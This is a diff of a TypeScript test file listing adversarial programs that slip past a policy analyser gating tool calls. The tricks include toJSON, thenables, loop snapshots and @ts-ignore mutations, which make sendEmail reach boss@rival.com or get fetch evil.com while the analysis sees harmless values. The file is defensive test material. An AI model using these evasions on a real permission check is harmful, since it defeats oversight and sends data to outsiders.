@@ -11,8 +11,8 @@ const me = `["me@example.com"]`;
 export const valueCases: AdversarialCase[] = [
   {
     name: "for...of over an array whose later element the body overwrites",
+    open: { class: "facts-miss", what: "the grant now refuses the call; the facts still miss it: for...of over a known array is unrolled over a snapshot of its elements taken before the loop; a write to a later element in the body is not seen by that iteration (the default policy auto-approves a call to api.example.com, the run calls evil.com)" },
     expect: "covered",
-    open: { class: "through-end-to-end", what: "for...of over a known array is unrolled over a snapshot of its elements taken before the loop; a write to a later element in the body is not seen by that iteration (the default policy auto-approves a call to api.example.com, the run calls evil.com)" },
     source: prog(`const d = await getDraft({ id: "1" });
     const bases = ["skip", "https://api.example.com/search?q="];
     for (const b of bases) {
@@ -22,8 +22,8 @@ export const valueCases: AdversarialCase[] = [
   },
   {
     name: "for...of over a list of lists whose later element the body replaces",
+    open: { class: "facts-miss", what: "the grant now refuses the call; the facts still miss it: the same snapshot, for recipients: the analysis sends to [] (auto-approved, the grant leaves `to` open), the run to the replaced list" },
     expect: "covered",
-    open: { class: "through-end-to-end", what: "the same snapshot, for recipients: the analysis sends to [] (auto-approved, the grant leaves `to` open), the run to the replaced list" },
     source: prog(`const lists: string[][] = [["skip"], []];
     for (const to of lists) {
       if (to[0] === "skip") { lists[1] = ["boss@rival.com"]; continue; }
@@ -42,8 +42,8 @@ export const valueCases: AdversarialCase[] = [
   },
   {
     name: "a mutator called through a string-keyed member",
+    open: { class: "facts-miss", what: "the grant now refuses the call; the facts still miss it: `to[\"push\"](x)` mutates a tracked array, but only `to.push(x)` (a property access callee) is applied to the tracked value: the analysis keeps [] (auto-approved, `to` open in the grant)" },
     expect: "covered",
-    open: { class: "through-end-to-end", what: "`to[\"push\"](x)` mutates a tracked array, but only `to.push(x)` (a property access callee) is applied to the tracked value: the analysis keeps [] (auto-approved, `to` open in the grant)" },
     source: prog(`const to: string[] = [];
     to["push"]("boss@rival.com");
     await sendEmail(${mail("to")});`),
@@ -51,40 +51,35 @@ export const valueCases: AdversarialCase[] = [
   {
     name: "toJSON on the argument object replaces what is sent",
     expect: "covered",
-    open: { class: "through-end-to-end", what: "a trusted call's argument crosses to the host as JSON, so a toJSON field decides what is sent; the analysis reads the object's other fields (to = [], auto-approved, `to` open in the grant)" },
     source: prog(`await sendEmail({ to: [], subject: "s", body: "b", toJSON: () => ({ to: ["boss@rival.com"], subject: "s", body: "b" }) } as { to: string[]; subject: string; body: string });`),
   },
   {
     name: "toJSON on an element of a list argument",
     expect: "covered",
-    open: { class: "through-end-to-end", what: "the same one level down: the element is taken to be an object (no glob holds on it, so the plain policy's deny rule says no), the host receives the string its toJSON returns" },
     source: prog(`await sendEmail({ to: [{ toJSON: () => "boss@rival.com" } as unknown as string], subject: "s", body: "b" });`),
   },
   {
     name: "await of a thenable resolves to what its then passes",
+    open: { class: "facts-miss", what: "the grant now refuses the call; the facts still miss it: await of a non-promise object is taken to be the object itself (a record with a `then` field); a run awaits the thenable and gets the string it resolves with. A record satisfies no glob, so the plain policy's deny rule on *@rival.com says no, and a record gives the grant no constraint" },
     expect: "covered",
-    open: { class: "through-end-to-end", what: "await of a non-promise object is taken to be the object itself (a record with a `then` field); a run awaits the thenable and gets the string it resolves with. A record satisfies no glob, so the plain policy's deny rule on *@rival.com says no, and a record gives the grant no constraint" },
     source: prog(`const to = await { then: (resolve: (v: string) => void) => resolve("boss@rival.com") };
     await sendEmail(${mail("[to]")});`),
   },
   {
     name: "an async function that returns a thenable",
     expect: "covered",
-    open: { class: "through-end-to-end", what: "the promise of an async function is taken to resolve to the returned object; a run adopts the thenable (the plain policy's deny rule on evil.com says no to a record)" },
     source: prog(`const url = await pick();
     await get({ url });`, { top: `async function pick(): Promise<string> {\n  return { then: (r: (v: string) => void) => r("https://evil.com/") } as unknown as string;\n}\n` }),
   },
   {
     name: "Promise.resolve of a thenable",
     expect: "covered",
-    open: { class: "facts-miss", what: "Promise.resolve(v) is taken to resolve to v; it adopts a thenable" },
     source: prog(`const to = await Promise.resolve({ then: (r: (v: string) => void) => r("boss@rival.com") } as unknown as string);
     await sendEmail(${mail("[to]")});`),
   },
   {
     name: "Object.assign behind @ts-ignore changes a tracked object",
     expect: "covered",
-    open: { class: "through-end-to-end", what: "@ts-ignore lets a program call a global the lib does not declare (Object.assign); the analysis treats the call as pure and keeps the object's old fields (to = [])" },
     source: prog(`const args = { to: [] as string[], subject: "s", body: "b" };
     // @ts-ignore
     Object.assign(args, { to: ["boss@rival.com"] });
@@ -93,7 +88,6 @@ export const valueCases: AdversarialCase[] = [
   {
     name: "Array fill behind @ts-ignore",
     expect: "covered",
-    open: { class: "facts-miss", what: "the same for a mutating method the lib does not declare (fill, copyWithin): not in MUTATORS, so the array keeps its old value" },
     source: prog(`const to = ["me@example.com"];
     // @ts-ignore
     to.fill("boss@rival.com");
@@ -102,7 +96,6 @@ export const valueCases: AdversarialCase[] = [
   {
     name: "a getter defined with Object.defineProperty behind @ts-ignore",
     expect: "covered",
-    open: { class: "facts-miss", what: "getters are refused as syntax, but defineProperty (reachable through @ts-ignore) installs one; the analysis reads the data field" },
     source: prog(`const args = { to: ${me}, subject: "s", body: "b" };
     // @ts-ignore
     Object.defineProperty(args, "to", { get: () => ["boss@rival.com"] });
